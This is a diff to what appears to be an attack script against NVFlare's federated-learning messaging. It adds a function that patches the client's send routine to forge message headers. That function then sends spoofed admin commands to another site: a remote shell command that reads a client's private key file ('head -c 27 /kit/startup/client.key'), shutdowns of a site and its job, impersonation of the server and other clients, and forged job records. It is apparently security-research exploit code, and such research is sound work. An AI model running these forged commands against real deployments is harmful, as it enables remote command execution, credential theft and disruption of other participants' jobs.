@@ -14,6 +14,7 @@ import sys
 import threading
 import time
 import zlib
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -60,6 +61,7 @@ def attack(engine: Any) -> None:
             time.sleep(0.2)
         time.sleep(1)
         _attack(engine.get_cell().core_cell)
+        say("commands", answered=list(_commands(engine.get_cell().core_cell, engine.client.token)))
     except BaseException as error:
         say("failed", error=f"{type(error).__name__}: {error}")
     os._exit(0)
@@ -95,6 +97,56 @@ def _attack(cell: Any) -> None:
     logged = int(here["delivered"]) + len(IN_A_LOG)
     answer = send(message(offset=here["size"], data=frames(IN_A_LOG), logged=logged, closed=True))
     say("record", before=here, after=answer, logged=logged, bad=len(IN_A_LOG))
+
+
+def _commands(cell: Any, token: str) -> Iterator[list[str]]:
+    """What NVFlare's server would hand on: commands for another site, and messages under other names. Yields what was answered."""
+    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
+    from nvflare.private.admin_defs import Message as AdminMessage
+    from nvflare.private.defs import CellMessageHeaderKeys, new_cell_message
+
+    forged: dict[str, str] = {}
+    send_on = cell._send_to_endpoint
+
+    def send(to_endpoint: Any, message: Any) -> Any:
+        message.headers.update(forged)
+        return send_on(to_endpoint, message)
+
+    cell._send_to_endpoint = send  # an attacker has no manners
+    key = "head -c 27 /kit/startup/client.key"
+    other_name = {
+        CellMessageHeaderKeys.CLIENT_NAME: f"{SITE}{token[0]}",
+        CellMessageHeaderKeys.TOKEN: token[1:],
+    }  # the signature holds
+    for what, target, channel, topic, content, changes in (
+        ("a shell at site-1", "site-1", "admin", "sys.shell", AdminMessage("sys.shell", key), {}),
+        ("an end of site-1", "site-1", "admin", "train.shutdown", AdminMessage("train.shutdown", ""), {}),
+        ("an end of site-1's job", f"site-1.{JOB}", "client_command", "abort", {}, {}),
+        (
+            "a shell as the server",
+            "site-1",
+            "admin",
+            "sys.shell",
+            AdminMessage("sys.shell", key),
+            {MessageHeaderKey.ORIGIN: "server"},
+        ),
+        ("records as site-1", "server", "multisite_tracking", "records", message(), {MessageHeaderKey.ORIGIN: "site-1"}),
+        ("records as nobody", "server", "multisite_tracking", "records", message(), other_name),
+        (
+            "an ending as nobody",
+            "server",
+            "multisite_jobs",
+            "ended",
+            {"job": JOB, "code": 1, "memory_limit": 0, "cut_off": False},
+            other_name,
+        ),
+    ):
+        forged.clear()
+        forged.update(changes)
+        request = new_cell_message({}, content)
+        answer = cell.send_request(channel=channel, topic=topic, target=target, request=request, timeout=3, optional=True)
+        if answer.get_header(MessageHeaderKey.RETURN_CODE) == "ok":
+            yield [what, str(getattr(answer.payload, "body", answer.payload))[:100]]
 
 
 def say(kind: str, **fields: Any) -> None:
